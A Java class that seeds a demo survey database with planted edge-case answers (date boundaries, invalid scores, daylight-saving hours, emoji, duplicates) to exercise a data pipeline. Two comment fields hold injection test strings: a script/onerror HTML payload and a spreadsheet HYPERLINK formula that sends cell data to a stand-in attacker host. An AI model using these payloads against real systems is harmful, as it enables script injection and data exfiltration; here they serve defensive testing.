package nl.weerklank.demo;

import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.LocalTime;
import java.util.List;

/** Writes the answers of {@link Planted} that follow a service contact. */
final class PlantedAnswers {

  private static final LocalTime NOON = LocalTime.NOON;
  private static final String ANYBODY = Planted.HINDSIGHT;

  private final LocalDate today;
  private final People people;
  private final Rows tickets;
  private final Rows answers;
  private long row = 9_000_000;

  private PlantedAnswers(World world, Rows tickets, Rows answers) {
    this.today = world.today();
    this.people = world.people();
    this.tickets = tickets;
    this.answers = answers;
  }

  static void write(World world, Database operational) {
    try (Rows tickets = operational.rows("ticket", 9);
        Rows answers = operational.rows("survey_contact", 10)) {
      PlantedAnswers planted = new PlantedAnswers(world, tickets, answers);
      planted.movesAndLastDays();
      planted.unknownKeys();
      planted.scores();
      planted.clockChanges();
      planted.texts(world);
      planted.duplicateAndUndated();
    }
    PlantedInstants.write(world, operational);
  }

  private void movesAndLastDays() {
    LocalDate move = Planted.moveDay(today);
    add(Planted.MOVE_ANSWERS.get(0), Planted.MOVER, move.minusDays(1), "3");
    add(Planted.MOVE_ANSWERS.get(1), Planted.MOVER, move, "9");
    List<String> edges = Planted.FIRST_AND_LAST_DAY_ANSWERS;
    add(edges.get(0), Planted.FIRST_AND_LAST_DAY, Planted.firstValidDay(today), "8");
    add(edges.get(1), Planted.FIRST_AND_LAST_DAY, Planted.lastValidDay(today), "7");
    add(edges.get(2), Planted.FIRST_AND_LAST_DAY, Planted.lastValidDay(today).plusDays(1), "2");
    List<LocalDate> days = Planted.hindsightAnswerDays(today);
    for (int i = 0; i < days.size(); i++) {
      add(Planted.HINDSIGHT_ANSWERS.get(i), Planted.HINDSIGHT, days.get(i), String.valueOf(5 + i));
    }
    add(
        Planted.CLOSED_UNIT_ANSWER,
        someoneOf(Planted.CLOSED_UNIT),
        Planted.closedUnitLastDay(today),
        "10");
    LocalDate left = Planted.leaverLastDay(today);
    add(Planted.LEAVER_ANSWERS.get(0), Planted.LEAVER, left.minusDays(5), "9");
    add(Planted.LEAVER_ANSWERS.get(1), Planted.LEAVER, left.plusDays(5), "6");
    LocalDate gap = Planted.gapDays(today).get(0).plusDays(2);
    add(Planted.GAP_ANSWER, Planted.WITHOUT_UNIT_FOR_A_WHILE, gap, "8");
  }

  private String someoneOf(String unit) {
    return people.spells().stream()
        .filter(spell -> spell.unit().equals(unit))
        .map(Spell::number)
        .reduce((first, second) -> second)
        .orElseThrow();
  }

  private void unknownKeys() {
    ticketOf(ANYBODY, Planted.YOUNG_CUSTOMER);
    answer(Planted.YOUNG_CUSTOMER_ANSWER, today.minusDays(35).atTime(NOON), "7", "5", null);
    ticketOf(ANYBODY, Planted.UNKNOWN_CUSTOMER);
    answer(Planted.UNKNOWN_CUSTOMER_ANSWER, today.minusDays(33).atTime(NOON), "4", "3", null);
    add(Planted.UNKNOWN_EMPLOYEE_ANSWER, Planted.UNKNOWN_EMPLOYEE, today.minusDays(32), "1");
  }

  private void scores() {
    String[] unusable = {"11", "-1", "6.5", "n.v.t."};
    for (int i = 0; i < unusable.length; i++) {
      plain(Planted.UNUSABLE_NPS_ANSWERS.get(i), 28, unusable[i], "6", null);
    }
    plain(Planted.ANSWER_WITHOUT_SCORES, 28, null, null, "Ik vul liever geen cijfer in.");
    plain(Planted.ANSWER_WITHOUT_NPS, 28, "", "2", null);
    plain(Planted.UNTIDY_ANSWERS.get(0), 27, " 9 ", "7", null);
    plain(Planted.UNTIDY_ANSWERS.get(1), 27, "10.0", "7", null);
  }

  private void clockChanges() {
    LocalDate spring = Planted.springNight(today);
    LocalDate autumn = Planted.autumnNight(today);
    at(Planted.SKIPPED_HOUR_ANSWER, spring.atTime(2, 30), "8");
    at(Planted.DOUBLE_HOUR_ANSWERS.get(0), autumn.atTime(2, 30), "9");
    at(Planted.DOUBLE_HOUR_ANSWERS.get(1), autumn.atTime(2, 30), "5");
    at(Planted.DST_EDGE_ANSWERS.get(0), spring.atTime(0, 0, 0), "9");
    at(Planted.DST_EDGE_ANSWERS.get(1), spring.atTime(23, 59, 59), "9");
    at(Planted.DST_EDGE_ANSWERS.get(2), autumn.atTime(0, 0, 0), "9");
    at(Planted.DST_EDGE_ANSWERS.get(3), autumn.atTime(23, 59, 59), "9");
  }

  private void texts(World world) {
    plain(
        Planted.EMOJI_ANSWER,
        12,
        "10",
        "7",
        "Top geholpen 👍🏽🎉 door het hele team 👩‍👩‍👧‍👦 ❤️");
    plain(
        Planted.HTML_ANSWER,
        12,
        "2",
        "2",
        "<b>Slecht</b> & traag <script>alert('x')</script> <img src=x onerror=alert(1)> &lt;/p&gt;");
    plain(Planted.LONG_ANSWER, 11, "1", "1", longText());
    plain(
        Planted.FORMULA_ANSWER,
        11,
        "0",
        "1",
        "=HYPERLINK(\"https://aanval.example/?x=\"&A1,\"Klik hier\")");
    String employee = people.person(people.presentIn("KSV-P").get(0)).name().full();
    ContactPerson contact = world.customers().contacts().get(0);
    plain(
        Planted.NAMES_ANSWER,
        10,
        "10",
        "7",
        employee
            + " heeft mij fantastisch geholpen. Groet, "
            + contact.name().full()
            + ", "
            + contact.account().name()
            + ".");
  }

  private static String longText() {
    String sentence =
        "En toen werd ik wéér doorverbonden en moest ik alles nog een keer van voren af aan uitleggen. ";
    return sentence.repeat(3_000 / sentence.length() + 1).substring(0, 2_999) + ".";
  }

  private void duplicateAndUndated() {
    plain(Planted.DUPLICATE_ANSWER, 9, "8", "6", "dubbel verstuurd, sorry");
    row++;
    stored(
        row,
        row - 1,
        Planted.DUPLICATE_ANSWER,
        today.minusDays(9).atTime(NOON),
        "8",
        "6",
        "dubbel verstuurd, sorry");
    ticketOf(ANYBODY, null);
    answer(Planted.UNDATED_ANSWER, null, "3", "3", "geen datum");
  }

  private void add(String id, String agent, LocalDate day, String recommend) {
    ticketOf(agent, null);
    answer(id, day.atTime(NOON), recommend, "4", null);
  }

  private void at(String id, LocalDateTime time, String recommend) {
    ticketOf(someoneOf("KSV-C"), null);
    answer(id, time, recommend, "6", null);
  }

  private void plain(String id, int daysAgo, String recommend, String easy, String comment) {
    ticketOf(people.presentIn("KSV-P").get(0), null);
    answer(id, today.minusDays(daysAgo).atTime(NOON), recommend, easy, comment);
  }

  private void ticketOf(String agent, String account) {
    row++;
    tickets.add(
        row,
        null,
        "T",
        "vraag of melding",
        "Utrecht",
        agent,
        account,
        null,
        "K" + (2_000_000 + row));
  }

  private void answer(String id, LocalDateTime at, String recommend, String easy, String comment) {
    stored(row, row, id, at, recommend, easy, comment);
  }

  private void stored(
      long rowId,
      long ticket,
      String id,
      LocalDateTime at,
      String recommend,
      String easy,
      String comment) {
    answers.add(rowId, id, ticket, at, recommend, easy, comment, null, "N", "nl");
  }
}
